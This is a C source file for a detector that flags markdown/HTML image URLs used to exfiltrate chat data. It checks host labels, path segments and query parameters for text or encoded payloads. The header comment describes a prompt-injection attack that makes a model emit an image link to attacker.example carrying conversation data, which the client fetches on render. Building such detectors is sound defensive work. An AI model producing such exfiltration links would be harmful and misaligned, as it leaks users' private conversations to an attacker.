/*
 * ag_url_exfil.c
 *	  Markdown/HTML image exfiltration: an image URL that carries data.
 *
 * A prompt injection makes the model answer with
 * ![x](https://attacker.example/log?q=<conversation data>); the chat client
 * fetches the image as soon as it renders the answer, and the data is
 * gone.  Ordinary images have short, structured queries (sizes, formats,
 * cache busters) -- or long signatures of cloud storage, which are
 * recognised by their algorithm parameter.  What is flagged: readable
 * text in a value, a long encoded value, a very long or very wide query, a
 * long encoded path segment or host label.
 */
#include "ag_url.h"

#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#define LONG_VALUE 40			/* encoded value: bytes */
#define TEXT_VALUE 16			/* readable text: bytes with >= 3 words */
#define LONG_QUERY 256
#define MANY_PARAMS 10
#define LONG_SEGMENT 48

static int
HexVal(char c)
{
	c = (char) (c | 0x20);
	return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

/* Percent- and '+'-decodes s[0..n) into out; returns the length. */
static size_t
DecodeValue(const char *s, size_t n, char *out, size_t outlen)
{
	size_t		o = 0;

	for (size_t i = 0; i < n && o + 1 < outlen; i++)
	{
		if (s[i] == '%' && i + 2 < n && HexVal(s[i + 1]) >= 0 && HexVal(s[i + 2]) >= 0)
		{
			out[o++] = (char) (HexVal(s[i + 1]) * 16 + HexVal(s[i + 2]));
			i += 2;
		}
		else
			out[o++] = s[i] == '+' ? ' ' : s[i];
	}
	out[o] = '\0';
	return o;
}

/* Made only of base64 / base64url / hex characters. */
static int
IsEncodedRun(const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++)
	{
		char		c = s[i];

		if (!((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
			  c == '+' || c == '/' || c == '=' || c == '_' || c == '-'))
			return 0;
	}
	return 1;
}

/* Words of at least two letters separated by spaces: "my password is x". */
static int
CountWords(const char *s, size_t n)
{
	int			words = 0,
				letters = 0;

	for (size_t i = 0; i <= n; i++)
	{
		unsigned char c = i < n ? (unsigned char) s[i] : ' ';

		if (c == ' ' || c == '\n' || c == '\t' || c == ',' || c == '.')
		{
			words += letters >= 2;
			letters = 0;
		}
		else if ((c | 0x20) >= 'a' && (c | 0x20) <= 'z')
			letters++;
		else if (c >= 0x80)
			letters++;
	}
	return words;
}

static int	Say(char *reason, size_t rl, int ret, const char *fmt,...)
			__attribute__((format(printf, 4, 5)));

static int
Say(char *reason, size_t rl, int ret, const char *fmt,...)
{
	va_list		ap;

	if (reason && rl > 0)
	{
		va_start(ap, fmt);
		vsnprintf(reason, rl, fmt, ap);
		va_end(ap);
	}
	return ret;
}

int
AgUrlImageExfiltration(const AgUrl *u, char *reason, size_t rl)
{
	const char *query = strchr(u->path, '?');
	const char *path_end = query ? query : u->path + strlen(u->path);
	char		value[2048];
	int			signed_storage;

	if (!(u->flags & AG_URL_IMAGE))
		return Say(reason, rl, 0, "not an image");

	/* data in the host name (DNS exfiltration) */
	for (const char *l = u->host; *l;)
	{
		const char *dot = strchr(l, '.');
		size_t		n = dot ? (size_t) (dot - l) : strlen(l);

		if (n >= LONG_SEGMENT - 8 && IsEncodedRun(l, n) && strncmp(l, "xn--", 4) != 0)
			return Say(reason, rl, 1, "image host label of %zu encoded characters", n);
		if (dot == NULL)
			break;
		l = dot + 1;
	}
	/* data in a path segment */
	for (const char *seg = u->path + 1; seg < path_end;)
	{
		const char *slash = memchr(seg, '/', (size_t) (path_end - seg));
		size_t		n = slash ? (size_t) (slash - seg) : (size_t) (path_end - seg);
		size_t		dn = DecodeValue(seg, n, value, sizeof(value));

		if (dn >= TEXT_VALUE && CountWords(value, dn) >= 3)
			return Say(reason, rl, 1, "image path carries %zu characters of text", dn);
		if (n >= LONG_SEGMENT && IsEncodedRun(seg, n) && memchr(seg, '.', n) == NULL)
			return Say(reason, rl, 1, "image path segment of %zu encoded characters", n);
		if (slash == NULL)
			break;
		seg = slash + 1;
	}
	if (query == NULL)
		return Say(reason, rl, 0, "no data in the image URL");

	/* presigned cloud storage: long signatures are expected there */
	signed_storage = strstr(query, "X-Amz-Algorithm=") || strstr(query, "X-Goog-Algorithm=") ||
		(strstr(query, "sig=") && strstr(query, "sv="));

	int			params = 0;
	size_t		qlen = strlen(query + 1);

	for (const char *p = query + 1; *p;)
	{
		const char *amp = strchr(p, '&');
		size_t		n = amp ? (size_t) (amp - p) : strlen(p);
		const char *eq = memchr(p, '=', n);
		const char *v = eq ? eq + 1 : p;
		size_t		vn = eq ? n - (size_t) (eq + 1 - p) : n;
		size_t		namelen = eq ? (size_t) (eq - p) : 0;
		size_t		dn = DecodeValue(v, vn, value, sizeof(value));

		params++;
		if (dn >= TEXT_VALUE && CountWords(value, dn) >= 3)
			return Say(reason, rl, 1, "image query parameter '%.*s' carries %zu characters of text",
					   (int) (namelen > 40 ? 40 : namelen), p, dn);
		if (!signed_storage && vn >= LONG_VALUE && IsEncodedRun(v, vn))
			return Say(reason, rl, 1, "image query parameter '%.*s' carries %zu encoded characters",
					   (int) (namelen > 40 ? 40 : namelen), p, vn);
		if (amp == NULL)
			break;
		p = amp + 1;
	}
	if (!signed_storage && qlen >= LONG_QUERY)
		return Say(reason, rl, 1, "image query string of %zu characters", qlen);
	if (params >= MANY_PARAMS)
		return Say(reason, rl, 1, "image query with %d parameters", params);
	return Say(reason, rl, 0, "no data in the image URL");
}
